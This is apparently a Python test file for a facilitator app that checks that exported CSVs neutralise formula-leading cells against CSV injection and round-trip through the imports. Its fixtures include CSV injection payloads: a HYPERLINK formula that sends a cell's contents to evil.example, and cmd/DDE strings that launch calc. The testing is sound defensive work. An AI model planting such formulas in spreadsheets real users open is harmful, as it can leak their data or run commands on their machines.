"""CSV that Excel cannot be tricked by (OWASP CSV injection; issue 15).

Every CSV the app writes prefixes a cell beginning with = + - @ tab or CR with a single
quote, in notes and in participant codes alike; every import removes exactly that
quote, so an export round-trips through the imports unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from facilitator.cli import main as cli_main
from facilitator.core.csvread import FORMULA_START, neutralise, unneutralise
from facilitator.core.notes import Attribution, save_note
from facilitator.core.notes_csv import export_notes, import_notes
from facilitator.core.roster import import_roster
from facilitator.core.store import Store
from facilitator.export.csv_export import write_csvs

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0", "-AI should never decide alone", "-2+3",
           "=1+1", "\tindented", "'=already quoted", "''+two quotes"]


def cells(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def no_formula(path: Path) -> None:
    for row in cells(path)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (path.name, cell)


@given(st.text())
def test_neutralise_is_undone_exactly(text: str) -> None:
    written = neutralise(text)
    assert not written.startswith(FORMULA_START)
    assert unneutralise(written) == text


def test_formula_cells_are_neutralised_in_notes_and_codes(tmp_path, default_pack,
                                                          capsys) -> None:
    db = tmp_path / "venue.db"
    with Store(db) as store:
        for i, text in enumerate(HOSTILE):
            code = f"=CDF-0{i}" if i % 2 else f"-CDF-0{i}"
            person = store.create("participants", {"site": "cardiff", "code": code})
            save_note(store, Attribution("cardiff", 2, table_name="+Table 1"), "quote", text,
                      [], str(person["id"]))
    out = tmp_path / "csv"
    # merge --csv writes the analysis CSVs of the database (here after merging nothing new).
    other = tmp_path / "other.db"
    Store(other).close()
    assert cli_main(["--db", str(db), "merge", str(other), "--csv", str(out)]) == 0
    capsys.readouterr()
    with Store(db) as store:
        export_notes(store, default_pack, tmp_path / "notes-only.csv")
    for path in [*out.glob("*.csv"), tmp_path / "notes-only.csv"]:
        no_formula(path)
    notes = cells(out / "notes.csv")
    header = notes[0]
    texts = {row[header.index("text")] for row in notes[1:]}
    assert "'-AI should never decide alone" in texts  # Excel shows: -AI should …
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")" in texts
    assert "''=already quoted" in texts
    codes = {row[0] for row in cells(out / "participants.csv")[1:]}
    assert "'=CDF-01" in codes and "'-CDF-00" in codes


prefixes = st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''-", "=HYPERLINK(",
                            "-AI should ", "@SUM("])
bodies = st.text(st.characters(whitelist_categories=("L", "N", "P", "S"),
                               blacklist_characters="\x00"), min_size=1, max_size=20)


@settings(max_examples=15, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(notes=st.lists(st.tuples(prefixes, bodies), min_size=1, max_size=5, unique=True),
       codes=st.lists(st.tuples(prefixes, st.from_regex(r"[A-Z]{3}-[0-9]{2}", fullmatch=True)),
                      min_size=1, max_size=3, unique_by=lambda c: (c[0] + c[1]).casefold()))
def test_an_export_round_trips_through_the_imports(tmp_path_factory, default_pack, notes,
                                                   codes) -> None:
    folder = tmp_path_factory.mktemp("roundtrip")
    texts = sorted({(p + b).strip() for p, b in notes} - {""})
    code_list = [(p + c).strip() for p, c in codes]
    with Store(folder / "a.db", device_id="laptop-a") as store:
        for code in code_list:
            store.create("participants", {"site": "cardiff", "code": code})
        for text in texts:
            save_note(store, Attribution("cardiff", 2), "note", text)
        write_csvs(store, default_pack, folder / "out", accept_flagged=True)
    for path in (folder / "out").glob("*.csv"):
        no_formula(path)
    with Store(folder / "b.db", device_id="laptop-b") as store:
        import_roster(store, default_pack, folder / "out" / "participants.csv")
        import_notes(store, default_pack, folder / "out" / "notes.csv")
        assert sorted(str(r["text"]) for r in store.rows("notes")) == texts
        assert sorted(str(r["code"]) for r in store.rows("participants")) == sorted(code_list)
